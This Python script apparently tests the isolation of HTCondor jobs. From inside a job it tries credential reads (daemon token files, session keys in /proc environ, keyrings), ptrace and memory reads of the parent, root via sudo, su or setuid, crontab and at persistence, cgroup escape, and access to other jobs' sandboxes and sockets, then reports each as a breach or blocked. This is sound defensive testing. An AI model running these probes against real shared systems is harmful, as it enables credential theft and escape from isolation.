#!/usr/bin/python3 -I
"""Attacks that a job makes by itself: ``inside.py NAME…``.

For each a line: ``BREACH name: what``, ``blocked name: why`` or ``lost name: no answer``.

Standard library only, Python 3.9 or later: this file is sent along with the job. What is under attack comes by the
environment: ``SECRET`` (a file of the daemons), ``EXECUTE`` (the starters' directory), ``OTHER_ID`` (another account's
id), ``LEAF`` (the daemons' cgroup), ``RUN`` (the switch's own directory).
"""

import ctypes
import glob
import os
import select
import signal
import socket
import subprocess
import sys

PARENT = os.getppid()
DESCRIPTORS = [number for number in map(int, os.listdir("/proc/self/fd")) if os.path.exists(f"/proc/self/fd/{number}")]
SECRET = os.environ.get("SECRET", "/etc/condor/tokens.d/site")
EXECUTE = os.environ.get("EXECUTE", "/var/lib/condor/execute")
LEAF = os.environ.get("LEAF", "/sys/fs/cgroup/leaf")
RUN = os.environ.get("RUN", "/run/sheepfold/execute_node")
OTHER_ID = os.environ.get("OTHER_ID", "200002")

NEWUSER, NEWNS = 0x10000000, 0x00020000
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
KEYCTL_SEARCH, KEYCTL_READ, USER_SESSION, SESSION = 10, 11, -5, -3
KEYCTL = {"x86_64": 250, "aarch64": 219}
LIMIT = 20
"""Seconds for one attack."""

libc = ctypes.CDLL(None, use_errno=True)


class Blocked(Exception):
    """The attack did not succeed; why."""


def call(name, *arguments):
    """A function of the C library; its answer. Raises OSError."""
    answer = getattr(libc, name)(*arguments)
    if answer < 0:
        raise OSError(ctypes.get_errno(), f"{name}: {os.strerror(ctypes.get_errno())}")
    return answer


def output(*words):
    """What a command prints. Raises Blocked with its complaint when it fails."""
    done = subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=LIMIT / 2)
    if done.returncode:
        raise Blocked((done.stderr or done.stdout or f"exit code {done.returncode}").strip().splitlines()[-1])
    return done.stdout.strip()


def processes():
    """Pids and names of the processes that can be seen."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/comm") as file:
                yield int(pid), file.read().strip()
        except OSError:
            continue


def daemons():
    """Pids of HTCondor's daemons. Raises Blocked when none can be seen."""
    found = [pid for pid, name in processes() if name.startswith("condor_")]
    if not found:
        raise Blocked("no daemon can be seen")
    return found


# Who the job is, and what it inherits


def descriptors():
    """A descriptor beside standard input, output and error."""
    # Python itself may keep its program open.
    extra = [number for number in DESCRIPTORS if number > 2 and not os.readlink(f"/proc/self/fd/{number}").startswith("/usr/")]
    if extra:
        return f"descriptor {extra[0]} is open: {os.read(extra[0], 60)!r}"


def groups():
    """A group beside the account's own."""
    extra = set(os.getgroups()) - {os.getgid()}
    if extra:
        return f"has groups {sorted(extra)}"


def capabilities():
    """A capability, or a way to get one by a program's privileges."""
    with open("/proc/self/status") as file:
        fields = dict(line.split(":\t", 1) for line in file)
    for name in ("CapEff", "CapPrm", "CapInh", "CapAmb", "CapBnd"):
        if int(fields[name], 16):
            return f"{name} is {fields[name].strip()}"
    if fields["NoNewPrivs"].strip() != "1":
        return "new privileges are allowed"


def setuid_program():
    """A program of root's with the setuid bit."""
    if output("/usr/local/bin/suid-id", "-u") == "0":
        return "is root by a setuid program"


def sudo():
    """sudo, where its rules allow everybody everything."""
    if output("sudo", "-n", "id", "-u") == "0":
        return "is root by sudo"


def su():
    """su, where root has no password."""
    if output("su", "root", "-c", "id -u") == "0":
        return "is root by su"


def crontab():
    """A crontab, which would outlive the job."""
    done = subprocess.run(["crontab", "-"], input="0 0 1 1 * true\n", capture_output=True, text=True, timeout=LIMIT / 2)
    if done.returncode == 0:
        subprocess.run(["crontab", "-r"], check=True)
        return "has a crontab"
    raise Blocked(done.stderr.strip().splitlines()[-1])


def at():
    """A job of at, which would outlive this one."""
    done = subprocess.run(["at", "now", "+", "1", "year"], input="true\n", capture_output=True, text=True, timeout=LIMIT / 2)
    if done.returncode == 0 or "job " in done.stderr:
        number = done.stderr.partition("job ")[2].split()[0]
        subprocess.run(["atrm", number], check=False)
        return f"has job {number} of at"
    raise Blocked(done.stderr.strip().splitlines()[-1])


# Other identities


def nested_user_namespace():
    """A user namespace of the job's own, also after an attempt at its limit."""
    try:
        with open("/proc/sys/user/max_user_namespaces", "w") as file:
            file.write("100")
    except OSError:
        pass
    call("unshare", NEWUSER)
    return "made a user namespace"


def delegated_id():
    """Another account's id, by newuidmap."""
    wake, waker = os.pipe()
    ready, teller = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            call("unshare", NEWUSER)
            os.write(teller, b"1")
            os.read(wake, 1)
        except OSError:
            os.write(teller, b"0")
        os._exit(0)
    try:
        if os.read(ready, 1) == b"0":
            raise Blocked("no user namespace")
        output("newuidmap", str(pid), "0", OTHER_ID, "1")
        return f"may be {OTHER_ID}"
    finally:
        os.write(waker, b"1")
        os.waitpid(pid, 0)


def other_keyring():
    """A key of the daemons' session."""
    number = KEYCTL[os.uname().machine]
    for ring in (SESSION, USER_SESSION):
        key = libc.syscall(number, KEYCTL_SEARCH, ring, b"user", b"sheepfold-attack", 0)
        if key > 0:
            room = ctypes.create_string_buffer(64)
            libc.syscall(number, KEYCTL_READ, key, room, 64)
            return f"read a key: {room.value.decode()}"
    raise Blocked(os.strerror(ctypes.get_errno()))


# The daemons' files and processes


def secret():
    """The daemons' token, as a file."""
    with open(SECRET) as file:
        return f"read {SECRET}: {file.read()[:20]}"


def switch_files():
    """The switch's own directory."""
    return f"{RUN} holds {os.listdir(RUN)}"


def daemons_seen():
    """The daemons' processes."""
    return f"sees {len(daemons())} daemons"


def daemons_signalled():
    """The daemons, by signal (0: whether one would be allowed)."""
    for pid in daemons():
        try:
            os.kill(pid, 0)
            return f"may signal process {pid}"
        except PermissionError:
            continue
    raise Blocked("it is not permitted")


def daemons_environment():
    """The starter's session keys, in its environment."""
    for pid in daemons():
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                if b"CONDOR_PRIVATE_INHERIT=" in file.read():
                    return f"read the session keys of process {pid}"
        except PermissionError:
            continue
    raise Blocked("it cannot be read")


def parent_traced():
    """The process that started the job, by ptrace."""
    call("ptrace", PTRACE_SEIZE, PARENT, None, None)
    os.kill(PARENT, signal.SIGSTOP)
    os.waitpid(PARENT, 0x40000000)
    call("ptrace", PTRACE_DETACH, PARENT, None, None)
    os.kill(PARENT, signal.SIGCONT)
    return f"traced process {PARENT}"


def parent_memory():
    """The memory of the process that started the job."""
    with open(f"/proc/{PARENT}/maps") as maps, open(f"/proc/{PARENT}/mem", "rb", buffering=0) as memory:
        memory.seek(int(maps.readline().partition("-")[0], 16))
        return f"read memory of process {PARENT}: {memory.read(4)!r}"


def parent_descriptors():
    """The descriptors of the process that started the job."""
    return f"process {PARENT} has {os.listdir(f'/proc/{PARENT}/fd')}"


def cgroup_left():
    """The daemons' cgroup, where a process outlives its job."""
    with open(f"{LEAF}/cgroup.procs", "w") as file:
        file.write(str(os.getpid()))
    return f"moved to {LEAF}"


def shared_tmp():
    """The /tmp that all others have."""
    if os.path.exists("/tmp/of-the-host"):
        return "sees the host's /tmp"


# Another slot's job


def _sandboxes_of_others():
    own = os.environ.get("_CONDOR_SCRATCH_DIR", os.getcwd())
    found = [path for path in glob.glob(f"{EXECUTE}/*") if not (own + "/").startswith(path + "/")]
    if not found:
        raise Blocked("no other sandbox can be seen")
    return found


def _read_of_another(name):
    for place in _sandboxes_of_others():
        for path in (f"{place}/{name}", f"{place}/scratch/{name}"):
            if os.path.exists(path):
                with open(path) as file:
                    return f"read {path}: {file.read()}"


def other_sandbox():
    """The files of another slot's job."""
    return _read_of_another("secret")


def other_credential():
    """A credential of another slot's job, which that has left readable by all."""
    return _read_of_another("credential")


def other_process():
    """The process of another slot's job: by signal."""
    for pid, _ in processes():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                if b"victim.py" in file.read():
                    os.kill(pid, 0)
                    return f"may signal process {pid}"
        except FileNotFoundError:
            continue
    raise Blocked("it cannot be seen")


def other_environment():
    """The environment of another slot's job."""
    for pid, _ in processes():
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                if b"SECRET_OF_BOB=" in file.read():
                    return f"read the environment of process {pid}"
        except OSError:
            continue
    raise Blocked("it cannot be read")


def other_socket():
    """The socket in another job's directory."""
    for place in _sandboxes_of_others():
        for path in (f"{place}/socket", f"{place}/scratch/socket"):
            if os.path.exists(path):
                return _talk(path)


def abstract_socket():
    """The abstract socket of another slot's job."""
    return _talk("\0bobs-job")


def _talk(address):
    with socket.socket(socket.AF_UNIX) as channel:
        channel.connect(address)
        return f"talked to another's job: {channel.recv(20)!r}"


def attempt(name, writer):
    """Make one attack; the line about it goes to a descriptor."""
    try:
        found = globals()[name]()
        line = f"BREACH {name}: {found}" if found else f"blocked {name}"
    except (Blocked, OSError, subprocess.SubprocessError) as error:
        line = f"blocked {name}: {error}"
    os.write(writer, " ".join(line.splitlines()).encode())


def main(names):
    """Make each attack in a process of its own: one may end badly."""
    for name in names:
        reader, writer = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(reader)
            attempt(name, writer)
            sys.stdout.flush()
            os._exit(0)
        os.close(writer)
        answered = select.select([reader], [], [], LIMIT)[0]
        line = os.read(reader, 4000).decode() if answered else ""
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        os.close(reader)
        print(line or f"lost {name}: no answer", flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
